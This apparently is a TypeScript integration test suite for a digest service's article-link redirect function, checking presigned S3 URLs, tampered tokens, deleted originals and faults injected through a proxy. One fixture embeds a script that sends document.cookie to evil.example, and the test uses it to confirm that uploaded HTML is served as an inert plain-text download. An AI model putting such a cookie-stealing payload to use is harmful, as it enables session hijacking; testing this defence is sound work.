/**
 * Links to stored originals over s3rver + aws-ses-v2-local: the digest links an article without a URL of
 * its own to the article-link function (served on 127.0.0.1 as a function URL), which redirects to a URL
 * presigned at click time; that URL returns the article's bytes.
 */
import { DeleteObjectCommand, PutObjectCommand, type S3Client } from '@aws-sdk/client-s3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createS3Client } from '../../src/aws/clients.js';
import { readArticleLinkToken } from '../../src/links/article-link.js';
import { LOCAL_REGION, LOCAL_CLIENT_CREDENTIALS } from '../../src/local/emulators.js';
import { runDigest } from '../../src/use-cases/run-digest/run-digest.js';
import { loadLinkEndpointConfig } from '../../src/config.js';
import { articleLinkDeps, createArticleLinkHandler } from '../../src/handlers/article-link-handler.js';
import {
  startFunctionUrl,
  type FunctionUrlHandler,
  type LocalFunctionUrl,
} from '../../src/local/function-url.js';
import { quietLogger } from '../support/digest-memory.js';
import { TEST_BUCKET, TEST_SECRET, useDigestStack } from '../support/digest-stack.js';
import { startFaultProxy, type FaultProxy } from '../support/fault-proxy.js';
import { buildSummary, summaryKey } from '../support/summary-fixtures.js';

const stack = useDigestStack();
let endpoint: LocalFunctionUrl | undefined;
/** The same function with its S3 requests through a fault proxy, to get the answers s3rver never gives. */
let proxied: { endpoint: LocalFunctionUrl; proxy: FaultProxy; s3: S3Client } | undefined;

async function articleLinkFunction(s3: S3Client, s3Endpoint: string): Promise<LocalFunctionUrl> {
  const config = loadLinkEndpointConfig('article-link', {
    AWS_REGION: LOCAL_REGION,
    S3_ENDPOINT: s3Endpoint,
    BUCKET: TEST_BUCKET,
    LINK_SIGNING_SECRET: TEST_SECRET,
  });
  const handler = createArticleLinkHandler(articleLinkDeps(config, s3), quietLogger());
  return startFunctionUrl(
    () => handler as unknown as FunctionUrlHandler,
    () => ({}) as never,
  );
}

beforeAll(async () => {
  const { s3Emulator } = stack();
  endpoint = await articleLinkFunction(stack().s3, s3Emulator.endpoint);
  const proxy = await startFaultProxy({ target: s3Emulator.endpoint });
  const s3 = createS3Client(
    { AWS_REGION: LOCAL_REGION, S3_ENDPOINT: proxy.url },
    { credentials: LOCAL_CLIENT_CREDENTIALS },
  );
  proxied = { endpoint: await articleLinkFunction(s3, proxy.url), proxy, s3 };
});
afterAll(async () => {
  await endpoint?.close();
  await proxied?.endpoint.close();
  proxied?.s3.destroy();
  await proxied?.proxy.close();
});

/** What S3 answers a HEAD it refuses: 403 and no body (for a missing key too, without s3:ListBucket). */
const refuseHead = (key: string) =>
  proxied?.proxy.add({
    name: `HEAD ${key} refused`,
    method: 'HEAD',
    path: (path) => decodeURIComponent(path.split('?')[0] ?? '') === `/${TEST_BUCKET}/${key}`,
    fault: {
      kind: 'respond',
      label: 's3-403-head',
      status: 403,
      headers: { 'x-amz-request-id': 'FAULTPROXY' },
      body: '',
    },
  });

/** Sends a digest to a new reader (one digest a day each) and returns its link to the original at `key`. */
async function linkFromDigest(title: string, key: string): Promise<URL> {
  const base = endpoint?.url ?? '';
  const story = buildSummary({ title, key });
  await stack().putSummary(story, summaryKey(story, new Date()));
  await stack().subscribeDue([`reader-${crypto.randomUUID()}@example.com`]);
  await runDigest(stack().deps({ ARTICLE_LINK_URL: base }), new Date(Date.now() + 2000));
  const [email] = await stack().ses.emails();
  const links = [...(email?.body.html ?? '').matchAll(/href="([^"]+)"/g)].map(
    (m) => new URL((m[1] ?? '').replaceAll('&amp;', '&')),
  );
  const link = links.find(
    (url) =>
      url.href.startsWith(base) &&
      readArticleLinkToken(TEST_SECRET, url.searchParams.get('token') ?? '')?.key === key,
  );
  if (!link) throw new Error(`the digest has no article link to ${key}`);
  return link;
}

/** Changes one character of the MAC (not the last, whose unused bits a spelling check alone would catch). */
const tamper = (token: string) => `${token.slice(0, -2)}${token.at(-2) === 'A' ? 'B' : 'A'}${token.at(-1)}`;

describe('links to stored originals', () => {
  it('go through the article-link function, which redirects to the article presigned at click time', async () => {
    const key = 'articles/field notes+1.md';
    const bytes = '# Field notes\n\nThe tram line opens on Monday. Ünïcödé survives.\n';
    await stack().s3.send(new PutObjectCommand({ Bucket: TEST_BUCKET, Key: key, Body: bytes }));
    const link = await linkFromDigest('Field notes', key);

    const redirect = await fetch(link, { redirect: 'manual' });
    const location = redirect.headers.get('location') ?? '';
    const article = await fetch(location);

    expect(redirect.status).toBe(302);
    expect(redirect.headers.get('referrer-policy')).toBe('no-referrer');
    expect(new URL(location).searchParams.get('X-Amz-Expires')).toBe('300');
    expect(article.status).toBe(200);
    expect(await article.text()).toBe(bytes);
  });

  it('serve an uploaded HTML page as a plain-text download, so its scripts never run on the bucket origin', async () => {
    const key = 'articles/hostile page.html';
    const bytes =
      '<!DOCTYPE html><html><body><script>fetch("https://evil.example/" + document.cookie)</script><p>Hi</p></body></html>';
    await stack().s3.send(
      new PutObjectCommand({
        Bucket: TEST_BUCKET,
        Key: key,
        Body: bytes,
        ContentType: 'text/html; charset=utf-8',
      }),
    );
    const link = await linkFromDigest('Hostile page', key);

    const redirect = await fetch(link, { redirect: 'manual' });
    const article = await fetch(redirect.headers.get('location') ?? '');

    // s3rver applies the signed response-* overrides as S3 does.
    expect(article.status).toBe(200);
    expect(article.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    expect(article.headers.get('content-disposition')).toBe(
      `attachment; filename="hostile page.html"; filename*=UTF-8''hostile%20page.html`,
    );
    expect(await article.text()).toBe(bytes);
    expect(redirect.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('answer 404 once the original is deleted, and 403 when the token is altered', async () => {
    const key = 'articles/short-lived.txt';
    await stack().s3.send(new PutObjectCommand({ Bucket: TEST_BUCKET, Key: key, Body: 'soon gone' }));
    const link = await linkFromDigest('Short lived', key);
    await stack().s3.send(new DeleteObjectCommand({ Bucket: TEST_BUCKET, Key: key }));
    const altered = new URL(link);
    altered.searchParams.set('token', tamper(link.searchParams.get('token') ?? ''));

    const gone = await fetch(link, { redirect: 'manual' });
    const forged = await fetch(altered, { redirect: 'manual' });

    expect([gone.status, forged.status]).toEqual([404, 403]);
    expect(await gone.text()).toContain('no longer available');
  });

  it('answer 404 for a deleted original when S3 refuses its HEAD with 403 instead of 404', async () => {
    const key = 'articles/deleted-under-403.txt';
    await stack().s3.send(new PutObjectCommand({ Bucket: TEST_BUCKET, Key: key, Body: 'soon gone' }));
    const link = await linkFromDigest('Deleted, then refused', key);
    await stack().s3.send(new DeleteObjectCommand({ Bucket: TEST_BUCKET, Key: key }));
    const remove = refuseHead(key);
    try {
      const gone = await fetch(new URL(`?${link.search.slice(1)}`, proxied?.endpoint.url), {
        redirect: 'manual',
      });

      expect(proxied?.proxy.injected('s3-403-head')).toBeGreaterThan(0);
      expect(gone.status).toBe(404);
      expect(await gone.text()).toContain('no longer available');
    } finally {
      remove?.();
    }
  });

  it('fail (5xx) when S3 refuses the HEAD of an original that is still there', async () => {
    const key = 'articles/kept-but-refused.txt';
    await stack().s3.send(new PutObjectCommand({ Bucket: TEST_BUCKET, Key: key, Body: 'still here' }));
    const link = await linkFromDigest('Kept, but refused', key);
    const remove = refuseHead(key);
    try {
      const refused = await fetch(new URL(`?${link.search.slice(1)}`, proxied?.endpoint.url), {
        redirect: 'manual',
      });

      expect(refused.status).toBeGreaterThanOrEqual(500);
      expect(await refused.text()).toContain('OriginalAccessDeniedError');
    } finally {
      remove?.();
    }
  });
});
